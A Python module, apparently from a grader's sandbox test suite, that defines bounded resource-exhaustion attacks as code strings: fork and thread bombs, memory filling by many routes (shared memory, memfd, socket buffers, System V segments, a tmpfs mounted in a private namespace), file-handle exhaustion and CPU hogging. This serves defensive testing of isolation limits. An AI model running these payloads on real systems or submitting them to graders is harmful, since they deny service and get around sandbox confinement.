"""Taking memory, disk, files and processes until the grader, or the machine, gives up.

Each bomb stops by itself after a bounded damage, so that a grader without limits survives to be
measured: it reports an escape when it got more than one submission may have.
"""

from __future__ import annotations

from .base import (
    ANY,
    STOPPED,
    Attack,
    in_a_cell,
    looting,
)
from .tools import ESCAPE, LIBC

LIMIT_MIB = 3_500  # the grader promises 2 GiB for a submission; what is more is an escape
TAKE = (
    ESCAPE
    + f"LIMIT = {LIMIT_MIB}\n"
    + """
import os, time
taken = 0
def took(mib):
    global taken, loot
    taken += mib
    loot = (ESC if taken >= LIMIT else "") + f"took {taken} MiB"
    return taken < LIMIT
"""
)


def _bomb(name: str, tries: str, source: str) -> Attack:
    return Attack(name, tries, looting(TAKE + source), allowed=ANY)


ATTACKS = [
    in_a_cell(
        "fork-bomb",
        "forks without end",
        "import os, time\nend = time.monotonic() + 8\n"
        "while time.monotonic() < end:\n    try:\n        os.fork()\n    except OSError:\n"
        "        time.sleep(0.1)",
    ),
    in_a_cell(
        "thread-bomb",
        "starts threads without end",
        "import threading, time\nwhile True:\n    try:\n"
        "        threading.Thread(target=time.sleep, args=(600,)).start()\n"
        "    except (RuntimeError, MemoryError):\n        break",
    ),
    _bomb(
        "memory-one-process",
        "fills memory in one process",
        "kept = []\ntry:\n    while took(50):\n        kept.append(b'x' * (50 * 2**20))\n"
        "except MemoryError:\n    pass\ndel kept",
    ),
    _bomb(
        "memory-many-processes",
        "fills memory in many processes, each within its own limit",
        """
parts = []
for _ in range(8):
    reading, writing = os.pipe()
    if os.fork() == 0:
        kept = []
        try:
            for _ in range(10):
                kept.append(b"x" * (50 * 2**20))
                os.write(writing, b"x")
        except MemoryError:
            pass
        time.sleep(4)
        os._exit(0)
    os.close(writing)
    parts.append(reading)
time.sleep(3)
for reading in parts:
    took(50 * len(os.read(reading, 100)))
""",
    ),
    _bomb(
        "memory-shm",
        "fills memory by files in /dev/shm, /scratch, /tmp and the folder of the notebook",
        """
block = b"x" * (10 * 2**20)
for folder in ("/dev/shm", "/scratch", "/tmp", "."):
    for number in range(400):
        try:
            with open(f"{folder}/{MARK}-{number}", "wb") as file:
                file.write(block)
        except OSError:
            break
        if not took(10):
            break
""",
    ),
    _bomb(
        "memory-memfd",
        "fills memory by files that have no name",
        """
block, kept = b"x" * (30 * 2**20), []
try:
    while took(30):
        kept.append(os.memfd_create("x"))
        if os.write(kept[-1], block) < len(block):
            break
except OSError:
    pass
for fd in kept:
    os.close(fd)
""",
    ),
    _bomb(
        "memory-sockets",
        "fills the kernel's buffers of sockets and pipes, from many processes",
        """
import socket
LIMIT = 2_100  # only what was sent counts here; the kernel uses about three times as much
parts = []
for _ in range(45):
    reading, writing = os.pipe()
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        sent, kept, block = 0, [], b"x" * 65_536
        try:
            while sent < 60 * 2**20:
                pair = socket.socketpair()
                kept += pair
                for each in pair:
                    each.setblocking(False)
                    each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                    try:
                        while True:
                            sent += each.send(block)
                    except BlockingIOError:
                        pass
        except OSError:
            pass
        os.write(writing, f"{sent // 2**20:6d}".encode())
        time.sleep(8)
        os._exit(0)
    os.close(writing)
    parts.append(reading)
for reading in parts:
    took(int(os.read(reading, 6) or 0))
""",
    ),
    _bomb(
        "memory-sysv",
        "fills memory by System V segments that it detaches again",
        LIBC
        + """
libc.shmat.restype = ctypes.c_void_p
kept = []
while True:
    segment = libc.shmget(0, 200 * 2**20, 0o1600)
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    if address in (None, 2**64 - 1):
        break
    kept.append(segment)
    ctypes.memset(address, 1, 200 * 2**20)
    libc.shmdt(ctypes.c_void_p(address))
    if not took(200):
        break
for segment in kept:
    libc.shmctl(segment, 0, None)
""",
    ),
    _bomb(
        "memory-own-tmpfs",
        "mounts a tmpfs without a limit in a namespace of its own, and fills it",
        LIBC
        + """
uid = os.getuid()
libc.unshare(0x10020000)
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
    try:
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    except OSError:
        pass
os.makedirs("mine", exist_ok=True)
if libc.mount(b"tmpfs", b"mine", b"tmpfs", 0, b"size=8g") == 0:
    block = b"x" * (10 * 2**20)
    try:
        for number in range(400):
            with open(f"mine/{number}", "wb") as file:
                file.write(block)
            if not took(10):
                break
    except OSError:
        pass
    libc.umount2(b"mine", 2)
""",
    ),
    in_a_cell(
        "files-many",
        "opens files and makes folders until no more can be had",
        "import os\nkept = []\ntry:\n    for n in range(200_000):\n"
        "        kept.append(open(f'x{n}', 'w'))\nexcept OSError:\n    pass\n"
        "try:\n    for n in range(300_000):\n        os.mkdir(f'd{n}')\nexcept OSError:\n    pass",
    ),
    in_a_cell(
        "cuts-the-rest",
        "runs 30 seconds of CPU in ten processes at once",
        "import os, time\nfor _ in range(10):\n    if os.fork() == 0:\n"
        "        end = time.monotonic() + 30\n        while time.monotonic() < end: pass\n"
        "        os._exit(0)",
        ANY | STOPPED,
    ),
]
